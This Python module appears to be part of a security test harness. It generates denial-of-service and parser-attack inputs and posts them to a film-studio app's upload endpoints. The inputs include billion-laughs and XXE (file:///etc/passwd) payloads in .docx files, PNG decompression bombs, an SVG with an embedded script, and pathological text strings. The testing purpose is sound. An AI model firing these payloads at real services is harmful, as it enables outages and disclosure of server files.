"""What `bench.attack` hands in to be read: scripts, documents and pictures that cost whoever reads them much more than who sent them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from contextlib import suppress

import httpx

from bench.harness.attack.attacked_studio import Place, Seen

SCRIPTS = {
    "[[ x 32,000": "[[" * 32_000,
    "CUT x 16,000": "CUT " * 16_000,
    "brackets": "（" * 30_000 + "(" * 30_000,
    "colons": "A:" * 30_000,
    "one line of dots": "." * 64_000 + "!",
    "stars": "*" * 64_000 + "a",
    "scenes": "INT. A - DAY\n" * 5_000,
    "blanks": " " * 64_000 + "x",
}
"""Each was, or looks like, much work for a reader that tries every way to read it."""


def documents() -> dict[str, Callable[[], bytes]]:
    """Word documents of a few kB that unpack to much, call for other files, or nest."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    bomb = _words("<w:p><w:t>&l8;</w:t></w:p>", f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]>')
    file = _words("<w:p><w:t>&e;</w:t></w:p>", '<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>')
    nest = "<w:p>" + "<w:r>" * 200 + "<w:t>a</w:t>" + "</w:r>" * 200 + "</w:p>"
    return {
        "entities in UTF-16": lambda: _docx(bomb.encode("utf-16")),
        "entities": lambda: _docx(bomb.encode()),
        "a file of the machine": lambda: _docx(file.encode()),
        "a file of the machine in UTF-16": lambda: _docx(file.encode("utf-16")),
        "deep": lambda: _docx(_words("<w:p>" * 300_000 + "</w:p>" * 300_000).encode()),
        "many paragraphs": lambda: _docx(_words("<w:p><w:r><w:t>CUT </w:t></w:r></w:p>" * 60_000).encode()),
        "nests": lambda: _docx(_words(nest * 600).encode()),
        "zeros": lambda: _docx(b"<" + b"0" * 300_000_000),
    }


def _words(body: str, kind: str = "") -> str:
    names = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    return f'<?xml version="1.0"?>{kind}<w:document {names}>{body}</w:document>'


def _docx(document: bytes) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as packed:
        packed.writestr("word/document.xml", document)
    return content.getvalue()


def pictures(size: int = 40_000_000) -> dict[str, Callable[[], bytes]]:
    """Pictures of a few kB that are thin, huge, cut off or no pictures at all."""
    return {
        "1 wide": lambda: _png(1, size),
        "a lie of its size": lambda: _png(2**31 - 1, 2**31 - 1, rows=1),
        "1 high": lambda: _png(size, 1),
        "as large as may be": lambda: _png(16_000, 16_000),
        "larger than may be": lambda: _png(60_000, 60_000, rows=1000),
        "cut off": lambda: _png(4_000, 4_000)[:3_000],
        "drawn by words": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "nothing": lambda: b"\x00" * 1000,
    }


def _png(width: int, height: int, rows: int | None = None) -> bytes:
    """All black, one bit a pixel."""
    packer = zlib.compressobj(9)
    line = b"\x00" * (1 + -(-width // 8)) if width < 2**30 else b"\x00" * 1000
    data, left = [], rows or height
    many = max(1, (1 << 20) // len(line))
    while left > 0:
        data.append(packer.compress(line * min(many, left)))
        left -= many
    data.append(packer.flush())
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", b"".join(data)) + _chunk(b"IEND", b"")


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def send_pictures(place: Place, seen: Seen, size: int = 40_000_000, most: int | None = None) -> None:
    """As a shot's picture and as one's own, by whoever may."""
    assert place.film is not None
    ids = place.film.ids
    with place.client(place.film.owner) as client:
        for name, made in [*pictures(size).items()][:most]:
            content = made()
            for target in (
                f"/api/v1/uploads/projects/{ids['project_id']}/shots/{ids['shot_id']}",
                "/api/v1/uploads/avatar",
            ):
                with suppress(httpx.HTTPError):
                    answer = client.post(target, content=content, headers={"Content-Type": "application/octet-stream"})
                    seen.answered("pictures", f"{name} ({len(content) >> 10} kB) to {target}", answer.status_code)
        sound = client.post(
            f"/api/v1/uploads/projects/{ids['project_id']}/audios/{ids['audio_id']}", content=b"RIFF" + b"\xff" * 50_000
        )
        seen.answered("pictures", "a sound that is none", sound.status_code)
